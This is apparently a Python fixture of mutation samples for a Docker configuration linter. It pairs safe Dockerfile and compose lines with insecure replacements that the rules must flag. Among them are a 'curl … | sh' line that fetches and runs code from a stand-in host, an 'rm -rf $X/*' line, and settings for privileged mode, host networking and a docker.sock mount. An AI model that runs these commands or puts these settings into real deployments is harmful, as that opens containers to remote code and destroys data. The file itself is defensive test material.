"""What each rule must find: (file, what stands there, what is put in its place)."""

D, C, T, I, N = ('docker/Dockerfile', 'docker-compose.yml', 'docker/compose.tls.yml', '.dockerignore',
                 'docker/proxy/copies.conf')

SAMPLES = {
    'from': [
        (D, 'bookworm-20260824-slim', 'latest'),
        (D, 'bookworm-20260824-slim', '12-slim'),
        (D, 'FROM debian:${DEBIAN} AS build', 'FROM debian AS build'),
        (C, 'postgres:15.19-bookworm', 'postgres:15'),
        (C, 'postgres:15.19-bookworm', 'postgres'),
    ],
    'user': [
        (D, 'USER 10001:10001\n', ''),
        (D, 'USER 10002:10002', 'USER root'),
        (D, 'USER 10001:10001', 'USER 0:0'),
        (D, 'USER 10001:10001', 'USER kstthc'),
        (D, 'USER 10001:10001', 'USER 10001:10001\nRUN true'),
        (C, '    user: "999:999"\n', ''),
        (C, 'user: "999:999"', 'user: root'),
    ],
    'image': [
        (D, 'HEALTHCHECK --interval=10s --timeout=5s --start-period=20s', 'ENV X=1\n#'),
        (D, 'STOPSIGNAL SIGQUIT\n', ''),
        (D, 'CMD ["serve"]', 'CMD serve'),
        (D, 'ENTRYPOINT ["/usr/local/bin/kstthc"]', 'ENTRYPOINT kstthc'),
        (D, 'CMD ["/usr/local/bin/kstthc", "health"]', 'CMD kstthc health || exit 1'),
    ],
    'copy': [
        (D, 'COPY docker/proxy/ ', 'ADD docker/proxy/ '),
        (D, 'COPY docker/proxy/ /etc/kstthc-proxy/', 'COPY . /etc/kstthc-proxy/'),
    ],
    'context': [
        (I, '*\n!Makefile', '!Makefile'),
        (I, '!docker/proxy/', '!docker/'),
        (I, '!docker/proxy/', '!docker/secrets/'),
        (I, '!api/', '!.git/'),
    ],
    'run': [
        (D, '\t&& rm -rf /var/lib/apt/lists/*\n', '\t&& true\n'),
        (D, 'install -y --no-install-recommends', 'install -y'),
        (D, 'apt-get upgrade -y', 'apt-get upgrade'),
        (D, 'RUN kstthc routes', 'RUN curl -s http://x.example | sh; kstthc routes'),
    ],
    'shell': [(D, 'RUN kstthc routes', 'RUN rm -rf $X/*; kstthc routes')],
    'secret': [
        (D, 'ENV KSTTHC_LISTEN', 'ENV DB_PASSWORD=x KSTTHC_LISTEN'),
        (D, 'ARG DEBIAN_FRONTEND=noninteractive', 'ARG GITHUB_TOKEN'),
        (C, 'POSTGRES_PASSWORD_FILE: /run/secrets/database_superuser', 'POSTGRES_PASSWORD: x'),
        (C, 'KSTTHC_DATABASE_URL: service=kstthc', 'KSTTHC_DATABASE_URL: postgres://kstthc:x@database/kstthc'),
        (C, 'KSTTHC_DATABASE_URL: service=kstthc', 'KSTTHC_DATABASE_URL: host=database password=x'),
        (C, '# Longer than', '# password=hunter2; longer than'),
        (C, 'file: ./docker/secrets/database_owner', 'file: ./docker/database/owner'),
        (T, 'file: ./docker/secrets/tls_key', 'file: ./docker/proxy/tls_key'),
    ],
    'setting': [
        (C, 'KSTTHC_WORKERS:', 'KSTTHC_WORKER:'),
        (D, 'KSTTHC_BULK_LISTEN', 'KSTTHC_LISTEN_BULK'),
    ],
    'confined': [
        (C, '\n  read_only: true\n', '\n'),
        (C, 'cap_drop: [ALL]', 'cap_drop: [NET_RAW]'),
        (C, 'cap_drop: [ALL]', 'cap_drop: [ALL]\n  cap_add: [CHOWN]'),
        (C, 'no-new-privileges:true', 'no-new-privileges:false'),
        (C, '    shm_size: 128m', '    privileged: true'),
        (C, '    shm_size: 128m', '    network_mode: host'),
        (C, '- database:/var/lib/postgresql/data', '- /run/docker.sock:/run/docker.sock'),
    ],
    'bounded': [
        (C, '    mem_limit: 768m\n', ''),
        (C, '\n  pids_limit: 256\n', '\n'),
        (C, '\n  logging: *log\n', '\n'),
        (C, ',size=512m', ''),
    ],
    'lives': [
        (C, '  restart: unless-stopped\n  # Longer', '  # Longer'),
        (C, '    healthcheck:\n      test:', '    x-healthcheck:\n      test:'),
        (C, '      migrate:\n        condition: service_completed_successfully', '      migrate:\n        condition: service_started'),
        (D, 'HEALTHCHECK --interval=10s --timeout=5s --start-period=20s', 'ENV X=1\n#'),
    ],
    'reach': [
        (C, '    shm_size: 128m', '    ports: ["5432:5432"]'),
        (C, '    internal: true', '    internal: false'),
        (C, '    networks: [data]\n    # By TCP', '    # By TCP'),
        (C, '    networks: [data]\n    # By TCP', '    networks: [data, doors]\n    # By TCP'),
        (C, '      doors:\n        ipv4_address: 172.31.81.10', '      data:\n      doors:\n        ipv4_address: 172.31.81.10'),
    ],
    'addresses': [
        (C, 'ipv4_address: 172.31.81.12', 'ipv4_address: 172.31.81.13'),
        (C, 'KSTTHC_TRUSTED_PROXIES: 172.31.81.10/32', 'KSTTHC_TRUSTED_PROXIES: 172.31.81.0/24'),
        (C, 'KSTTHC_FORWARDED_HEADER: x-forwarded-for', 'KSTTHC_FORWARDED_HEADER: forwarded'),
        (N, '172.31.81.12', '172.31.81.21'),
    ],
    'fit': [
        (C, 'stop_grace_period: 20s', 'stop_grace_period: 10s'),
        (C, 'deadlock_timeout=200ms', 'deadlock_timeout=1000ms'),
        (C, 'max_connections=100', 'max_connections=40'),
        (C, 'KSTTHC_WORKERS: "16"', 'KSTTHC_WORKERS: "64"'),
        (C, 'log_min_error_statement=panic', 'log_min_error_statement=error'),
        (N, 'max_conns=12', 'max_conns=16'),
    ],
}
